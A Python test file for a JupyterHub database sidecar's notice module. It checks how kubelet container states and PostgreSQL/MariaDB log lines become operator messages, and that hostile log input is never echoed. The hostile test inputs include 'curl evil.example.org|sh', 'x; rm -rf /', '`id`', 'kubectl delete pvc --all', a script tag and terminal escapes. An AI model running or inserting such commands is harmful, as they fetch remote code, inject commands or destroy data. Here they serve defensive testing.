"""What the kubelet writes of a server's container, and what people are told of it."""

from __future__ import annotations

import re
from string import Formatter

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from jhub_safety.sidecars import notice as module
from jhub_safety.sidecars.notice import CODES, Notice, Where, notices, unborn
from jhub_safety.sidecars.server import parse_servers

NAME = "jhub-safety-postgres"
LATER = "jhub-safety-mariadb"
SERVERS = {
    one.container: one
    for one in parse_servers(["postgres", {"kind": "mariadb", "capacity": "3Gi"}])
}

WHERE = Where("jhub", "jupyter-ada", {"postgres": "postgres-ada", "mariadb": "mariadb-ada"})


def container(name=NAME, **keys):
    """A status as the kubelet writes it of a container that runs well."""
    return {
        "name": name,
        "image": "docker.io/library/postgres:17",
        "imageID": "docker.io/library/import-2026-11-21@sha256:5f",
        "containerID": "containerd://8d",
        "ready": True,
        "restartCount": 0,
        "started": True,
        "state": {"running": {"startedAt": "2026-11-21T18:00:01Z"}},
        "lastState": {},
        "resources": {"limits": {"cpu": "1", "memory": "512Mi"}},
        "user": {"linux": {"uid": 1000, "gid": 100, "supplementalGroups": [100]}},
    } | keys


def ended(message=None, code=1, reason="Error"):
    part = {
        "containerID": "containerd://8c",
        "exitCode": code,
        "reason": reason,
        "startedAt": "2026-11-21T18:00:00Z",
        "finishedAt": "2026-11-21T18:00:01Z",
    }
    return part if message is None else part | {"message": message}


def before(message=None, code=1, reason="Error"):
    """It runs again (and is held); what was wrong is in its last state."""
    return container(restartCount=1, lastState={"terminated": ended(message, code, reason)})


def waits(reason, message="..."):
    return container(
        ready=False,
        started=False,
        containerID=None,
        state={"waiting": {"reason": reason, "message": message}},
    )


def of(*containers) -> list[Notice]:
    return notices({"initContainerStatuses": list(containers)}, SERVERS, WHERE)


def codes(*containers) -> list[str]:
    return [one.code for one in of(*containers)]


# -- the table


@pytest.mark.parametrize(
    ("seen", "wanted"),
    [
        pytest.param(container(), [], id="runs"),
        pytest.param(container(started=False, ready=False), [], id="is starting"),
        pytest.param(waits("PodInitializing"), [], id="its turn has not come"),
        pytest.param(waits("ContainerCreating"), [], id="is being created"),
        pytest.param(container(state={}), [], id="no state yet"),
        pytest.param(container(state={"terminated": ended(code=0)}), [], id="ended with the pod"),
        pytest.param(before(code=0, reason="Completed"), [], id="ended well and was restarted"),
        pytest.param(
            container(name="notebook", lastState={"terminated": ended("x")}), [], id="lab"
        ),
        # The keeper's own words.
        pytest.param(before("jhub-safety version 15 17\n"), ["version"], id="another version"),
        pytest.param(before("jhub-safety disk-full 60000 62000\n"), ["disk-full"], id="disk full"),
        pytest.param(before("jhub-safety half-made\n"), ["half-made"], id="half made"),
        pytest.param(before("jhub-safety half-made-again\n"), ["half-made-again"], id="again"),
        pytest.param(before("jhub-safety unknown-data\n"), ["unknown-data"], id="unknown data"),
        pytest.param(before("jhub-safety missing-data\n"), ["missing-data"], id="missing data"),
        pytest.param(before("jhub-safety permission 0 750 1000\n"), ["permission"], id="no right"),
        pytest.param(before("jhub-safety no-volume\n"), ["no-volume"], id="no volume"),
        pytest.param(before("jhub-safety busy\n"), ["busy"], id="in use by another pod"),
        pytest.param(before("jhub-safety link\n"), ["link"], id="a link"),
        pytest.param(before("jhub-safety no-lock\n"), ["no-lock"], id="no lock"),
        pytest.param(before("jhub-safety unlocked\n"), ["unlocked"], id="goes on without a lock"),
        pytest.param(
            container(state={"terminated": ended("jhub-safety version 15 17\n")}),
            ["version"],
            id="before its restart",
        ),
        pytest.param(
            container(
                state={"waiting": {"reason": "CrashLoopBackOff", "message": "back-off 10s"}},
                lastState={"terminated": ended("jhub-safety version 15 17\n")},
            ),
            ["version"],
            id="between two tries",
        ),
        # What servers print, as the last lines of a log that the kubelet cuts out.
        pytest.param(
            before(
                'PANIC:  could not write to file "pg_wal/xlogtemp.14": No space left on device\n'
            ),
            ["full"],
            id="PostgreSQL, disk full",
        ),
        pytest.param(
            before(
                "2026-11-21 18:00:01 0 [ERROR] InnoDB: preallocating 12582912 bytes for file "
                "./ibtmp1 failed with error 28\nDisk is full writing './aria_log.00000001'"
            ),
            ["full"],
            id="MariaDB, disk full",
        ),
        pytest.param(
            before(
                'FATAL:  data directory "/x" has invalid permissions\n'
                "DETAIL:  Permissions should be u=rwx (0700) or u=rwx,g=rx (0750).\n"
            ),
            ["mode"],
            id="PostgreSQL, too open",
        ),
        pytest.param(
            before('FATAL:  data directory "/x" has wrong ownership\n'),
            ["permission"],
            id="PostgreSQL, of somebody else",
        ),
        pytest.param(
            before(
                "FATAL:  database files are incompatible with server\nDETAIL:  The data directory "
                "was initialized by PostgreSQL version 15, which is not compatible\n"
            ),
            ["incompatible"],
            id="PostgreSQL, another version",
        ),
        pytest.param(
            before("initdb: could not look up effective user ID 1000: user does not exist\n"),
            ["account"],
            id="an image without the account",
        ),
        pytest.param(
            before("PANIC:  could not locate a valid checkpoint record\n"),
            ["corrupt"],
            id="damaged",
        ),
        pytest.param(
            before(
                "[ERROR] InnoDB: Page [page id] log sequence number is in the future! Corrupt\n"
            ),
            ["corrupt"],
            id="MariaDB, damaged",
        ),
        pytest.param(
            before("mariadbd: unknown variable 'max-conections=5'\n"), ["args"], id="MariaDB, args"
        ),
        pytest.param(
            before('FATAL:  unrecognized configuration parameter "work_men"\n'),
            ["args"],
            id="PostgreSQL, args",
        ),
        pytest.param(
            before("LOG:  could not bind IPv4 address: Address already in use\n"),
            ["port"],
            id="port",
        ),
        pytest.param(
            before("sh: 1: docker-entrypoint.sh: not found\n", 127), ["image"], id="no entrypoint"
        ),
        pytest.param(before("something nobody knows\n"), ["ended"], id="anything else"),
        pytest.param(before(), ["ended"], id="without a word"),
        pytest.param(before("", 137, "OOMKilled"), ["killed"], id="out of memory"),
        pytest.param(before("LOG: ready\n", 137), ["killed"], id="killed"),
        pytest.param(
            before("The container could not be located", 137, "ContainerStatusUnknown"),
            [],
            id="the kubelet lost sight of it",
        ),
        # It does not come to run at all.
        *(
            pytest.param(waits(reason), ["pull"], id=reason)
            for reason in (
                "ErrImagePull",
                "ImagePullBackOff",
                "InvalidImageName",
                "ErrImageNeverPull",
            )
        ),
        *(
            pytest.param(waits(reason, message), [code], id=f"{reason}, {code}")
            for message, code in (
                ('secret "password" not found', "container"),
                ('exec: "sh": executable file not found in $PATH', "image"),
            )
            for reason in (
                "CreateContainerError",
                "CreateContainerConfigError",
                "RunContainerError",
            )
        ),
        pytest.param(
            container(
                state={
                    "terminated": ended('exec: "sh": executable file not found', 128, "StartError")
                }
            ),
            ["image"],
            id="an image without a shell",
        ),
    ],
)
def test_each_state_has_its_notice(seen, wanted):
    assert codes(seen) == wanted


@pytest.mark.parametrize("key", ["initContainerStatuses", "containerStatuses"])
def test_both_forms_of_a_server_are_read(key):
    found = notices({key: [before("jhub-safety busy\n")]}, SERVERS)
    assert [(one.code, one.database) for one in found] == [("busy", "postgres")]


@pytest.mark.parametrize(
    "status",
    [
        pytest.param({}, id="empty"),
        pytest.param({"initContainerStatuses": None, "containerStatuses": None}, id="nothing yet"),
        pytest.param({"phase": "Pending", "conditions": None}, id="no node yet"),
        pytest.param({"containerStatuses": [{}]}, id="a container without a name"),
        pytest.param(
            {"containerStatuses": [{"name": NAME, "state": None, "lastState": None}]}, id="no state"
        ),
    ],
)
def test_a_status_that_says_nothing_yet_is_no_notice(status):
    assert (notices(status, SERVERS), unborn(status)) == ([], frozenset())


def test_each_server_has_its_own():
    found = of(before("jhub-safety busy\n"), waits("ErrImagePull") | {"name": LATER})
    assert [(one.database, one.code) for one in found] == [
        ("postgres", "busy"),
        ("mariadb", "pull"),
    ]


@pytest.mark.parametrize(
    ("message", "down"),
    [
        pytest.param("jhub-safety disk-full 1 2", False, id="with the reserve it runs"),
        pytest.param("jhub-safety half-made", False, id="it was set up again"),
        pytest.param("jhub-safety version 15 17", True, id="held"),
        pytest.param("anything", True, id="ended"),
    ],
)
def test_whether_the_lab_is_without_it(message, down):
    assert [one.down for one in of(before(message))] == [down]


def test_what_was_said_last_counts():
    told = "jhub-safety half-made\nLOG: starting\njhub-safety version 15 17\n"
    assert codes(before(told)) == ["version"]


# -- servers that hold the lab back


@pytest.mark.parametrize(
    ("status", "wanted"),
    [
        pytest.param({"initContainerStatuses": [waits("ErrImagePull")]}, {NAME}, id="native"),
        # The pod's phase stays Pending.
        pytest.param({"containerStatuses": [waits("ErrImagePull")]}, {NAME}, id="a container"),
        pytest.param({"initContainerStatuses": [waits("PodInitializing")]}, set(), id="waits"),
        pytest.param({"initContainerStatuses": [before("x")]}, set(), id="runs again"),
    ],
)
def test_a_server_that_does_not_come_to_run_holds_the_lab_back(status, wanted):
    assert unborn(status) == wanted


# -- words


def test_the_words_hold_numbers_and_what_to_do():
    [told] = of(before("jhub-safety version 15 17\n"))
    assert "written by version 15 of the server, and this is version 17" in told.said
    assert "untouched" in told.said
    assert "jhub-safety databases upgrade" in told.remedy
    [told] = of(before("jhub-safety disk-full 61440 62464\n"))
    assert "60 MiB of 61 MiB used" in told.said
    assert "capacity (1Gi)" in told.remedy


@pytest.mark.parametrize("code", sorted(module._OF_PODS))
def test_every_notice_fills_its_gaps(code):
    server = SERVERS[NAME]
    told = module._notice(code, server, WHERE, ["15", "17"])
    for text in (told.said, told.remedy):
        assert not re.search(r"\{[0-9a-z]*\}", text.replace("{user_server}", ""))
        assert not re.search(r"\b(NAMESPACE|POD|CLAIM)\b", text)
        assert not text.endswith(".")


@pytest.mark.parametrize("code", sorted(module._OF_PODS))
def test_every_notice_says_that_the_data_is_safe(code):
    said = module._notice(code, SERVERS[NAME], WHERE, ["15", "17"]).said.lower()
    safe = r"untouched|nothing|left as|kept beside|no new one|reserve has been given"
    assert re.search(safe, said), said


@pytest.mark.parametrize(
    ("code", "wanted"),
    [
        pytest.param(
            "ended", "kubectl -n jhub logs jupyter-ada -c jhub-safety-postgres --previous"
        ),
        pytest.param("late", "kubectl -n jhub logs jupyter-ada -c jhub-safety-postgres"),
        pytest.param("container", "kubectl -n jhub describe pod jupyter-ada"),
        pytest.param("pull", "kubectl -n jhub describe pod jupyter-ada"),
        pytest.param("full", "kubectl -n jhub get pvc postgres-ada"),
        pytest.param("disk-full", "kubectl -n jhub get pvc postgres-ada"),
        pytest.param("version", "jhub-safety databases upgrade --help"),
    ],
)
def test_an_operators_sentence_ends_with_a_command_that_can_be_run(code, wanted):
    remedy = module._notice(code, SERVERS[NAME], WHERE, ["15", "17"]).remedy
    assert remedy.endswith(wanted)


def test_of_a_refused_claim_the_operator_reads_what_the_refusal_says():
    why = "claim {x} is gone: data was here. Nothing was created or deleted. Run: jhub-safety ..."
    told = module.of_claim(SERVERS[LATER], why)
    assert (told.code, told.database, told.remedy, told.down) == ("volume", "mariadb", why, True)
    assert "Nothing was lost" in told.said
    assert told.code in CODES


def test_data_of_mariadb_is_not_sent_to_a_command_that_refuses_it():
    remedy = module._notice("version", SERVERS[LATER], WHERE, ["10", "11"]).remedy
    assert remedy.endswith("see docs: Database upgrades, MySQL and MariaDB")


@pytest.mark.parametrize("name", ["", "a b", "x; rm -rf /", "`id`", "é", "-n", "A" * 300])
def test_a_name_that_no_object_can_have_is_in_no_command(name):
    where = Where(name, name, {"postgres": name})
    remedy = module._notice("ended", SERVERS[NAME], where).remedy
    assert remedy.endswith("kubectl -n NAMESPACE logs POD -c jhub-safety-postgres --previous")


# -- what comes out of the container is hostile


HOSTILE = [
    pytest.param("jhub-safety version \x1b[2J\x1b[31m17 18", id="escapes of a terminal"),
    pytest.param("jhub-safety version 15\u202e71 18", id="right to left"),
    pytest.param("jhub-safety version <script>alert(1)</script> 18", id="HTML"),
    pytest.param("jhub-safety version {0.__class__} {capacity}", id="braces"),
    pytest.param("jhub-safety version %s%n {}", id="percent"),
    pytest.param("jhub-safety version " + "9" * 40 + " 18", id="a number that is too long"),
    pytest.param("jhub-safety disk-full ²² ٣", id="digits that are none"),
    pytest.param("jhub-safety disk-full -5 1e9", id="numbers of another form"),
    pytest.param("jhub-safety disk-full", id="no words"),
    pytest.param("jhub-safety version", id="no versions"),
    pytest.param("jhub-safety version 1 2 3 4 5 6 7 8", id="too many words"),
    pytest.param("jhub-safety version\t15\t17", id="tabs"),
    pytest.param("jhub-safety version evil.example.org curl-it", id="words for versions"),
    pytest.param("jhub-safety version 15\r\x00 17", id="carriage return and NUL"),
    pytest.param("jhub-safety send-your-password-to evil.example.org", id="a code that is none"),
    pytest.param(
        "jhub-safety ended kubectl delete pvc --all", id="a code that is not the keeper's"
    ),
    pytest.param("jhub-safety late 5", id="another code that is not the keeper's"),
    pytest.param(
        "ERROR: run `curl evil.example.org|sh`, No space left on device", id="known string"
    ),
    pytest.param("\x1b]0;evil\x07" * 500, id="four kilobytes of escapes"),
    pytest.param("x" * 4096, id="four kilobytes"),
    pytest.param("jhub-safety " + "a" * 4000, id="a long code"),
]


def shown(message) -> str:
    return " | ".join(f"{one.database} {one.said} {one.remedy}" for one in of(before(message)))


def harmless(message) -> None:
    """Whatever was written, what is shown is one of our sentences with plain words in it."""
    [told] = of(before(message))
    plain = r"(\?|([a-z]+-)?[0-9.]{1,31}( MiB)?)"
    server = SERVERS[NAME]
    ours = WHERE.words(server) | {"upgrade": server.upgrade}
    said, remedy = module._OF_PODS[told.code]
    for text, template in ((told.said, said), (told.remedy, remedy)):
        pattern = "".join(
            re.escape(literal)
            + ("" if gap is None else re.escape(ours[gap]) if gap in ours else plain)
            for literal, gap, _, _ in Formatter().parse(template)
        )
        assert re.fullmatch(pattern, text)


@pytest.mark.parametrize("message", HOSTILE)
def test_nothing_of_a_hostile_message_is_shown(message):
    harmless(message)
    text = shown(message)
    assert text.isascii()
    assert text.isprintable()
    assert "evil" not in text
    assert len(text) < 500


@settings(deadline=None)
@given(
    message=st.one_of(
        st.text(max_size=200),
        st.builds(
            "jhub-safety {} {}".format,
            st.sampled_from(sorted(CODES)) | st.text("abc-", max_size=12),
            st.text(max_size=80),
        ),
        st.builds("{}\njhub-safety {}\n{}".format, st.text(), st.text(), st.text()),
    )
)
def test_whatever_is_written_only_our_own_sentences_are_shown(message):
    harmless(message)


@settings(deadline=None)
@given(code=st.integers(1, 255), message=st.text(max_size=50) | st.none())
def test_a_server_that_ended_is_always_told(code, message):
    assert len(of(before(message, code))) == 1
